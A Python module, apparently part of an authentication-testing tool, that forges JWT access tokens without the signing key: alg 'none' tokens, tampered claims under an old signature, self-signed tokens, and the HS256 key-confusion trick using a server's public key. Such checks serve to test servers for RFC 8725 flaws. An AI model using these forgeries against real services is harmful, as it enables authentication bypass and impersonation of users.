"""Forged copies of a JWT access token: what an attacker makes without the signing key.

Source: RFC 8725 sections 2.1, 3.1 and 3.2.
"""

from __future__ import annotations

import base64
import binascii
import json
from collections.abc import Mapping, Sequence
from typing import Any

from mockauth.checks.finding import NotApplicable


def is_jwt(token: str) -> bool:
    """Whether `token` is a signed JWT (RFC 7519): three parts, the first a JOSE header."""
    parts = token.split(".")
    return len(parts) == 3 and "alg" in _json(parts[0])


def forge(kind: str, token: str, keys: Sequence[Mapping[str, Any]]) -> str:
    """A token with the claims of `token` that nobody with the key has signed.

    `none` has no signature, `payload` keeps the old one over changed claims, `own-key` is signed by
    a key of ours, `hs256` with the server's public key as the secret of a MAC.

    Raises:
        NotApplicable: `hs256`, and the server publishes no public key.
    """
    head, claims, signature = token.split(".")
    header = _json(head)
    if kind == "none":
        return f"{_text({**header, 'alg': 'none'})}.{claims}."
    if kind == "payload":
        changed = {**_json(claims), "sub": "mockauth-somebody-else"}
        return f"{head}.{_text(changed)}.{signature}"
    if kind == "own-key":
        return _signed_by_our_key(header, claims)
    return _mac(header, claims, keys)


def _signed_by_our_key(header: dict[str, Any], claims: str) -> str:
    # 100 ms to import; only a JWT needs it.
    from joserfc import jws
    from joserfc.jwk import ECKey, OctKey, RSAKey

    algorithm = str(header.get("alg", "RS256"))
    key: RSAKey | ECKey | OctKey
    if algorithm.startswith("ES"):
        curve = {"ES384": "P-384", "ES512": "P-521"}.get(algorithm, "P-256")
        key = ECKey.generate_key(curve)
    elif algorithm.startswith("HS"):
        key = OctKey.generate_key(512)
    else:
        algorithm = algorithm if algorithm in ("RS256", "RS384", "RS512") else "RS256"
        key = RSAKey.generate_key(2048)
    protected = {**header, "alg": algorithm}
    payload = base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4))
    return jws.serialize_compact(
        protected, payload, key, algorithms=[algorithm], registry=_lenient(algorithm)
    )


def _mac(header: dict[str, Any], claims: str, keys: Sequence[Mapping[str, Any]]) -> str:
    import hashlib
    import hmac

    pem = _public_pem(header, keys)
    if pem is None:
        raise NotApplicable("the server publishes no public key to sign with")
    signed = f"{_text({**header, 'alg': 'HS256'})}.{claims}"
    mac = hmac.new(pem, signed.encode(), hashlib.sha256).digest()
    return f"{signed}.{base64.urlsafe_b64encode(mac).rstrip(b'=').decode()}"


def _public_pem(header: dict[str, Any], keys: Sequence[Mapping[str, Any]]) -> bytes | None:
    from joserfc.errors import JoseError
    from joserfc.jwk import import_key

    usable = [key for key in keys if key.get("kty") in ("RSA", "EC")]
    named = [key for key in usable if key.get("kid") == header.get("kid")] or usable
    for key in named:
        try:
            return bytes(import_key(dict(key)).as_pem(private=False))  # type: ignore[union-attr]  # RSA and EC keys have it
        except (JoseError, ValueError, TypeError, KeyError):
            continue
    return None


def _lenient(algorithm: str) -> Any:
    """A registry that lets the token's own header through."""
    from joserfc.jws import JWSRegistry

    return JWSRegistry(algorithms=[algorithm], strict_check_header=False)


def _text(value: Mapping[str, Any]) -> str:
    raw = json.dumps(value, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def _json(part: str) -> dict[str, Any]:
    try:
        value = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except (ValueError, binascii.Error, RecursionError):
        return {}
    return value if isinstance(value, dict) else {}
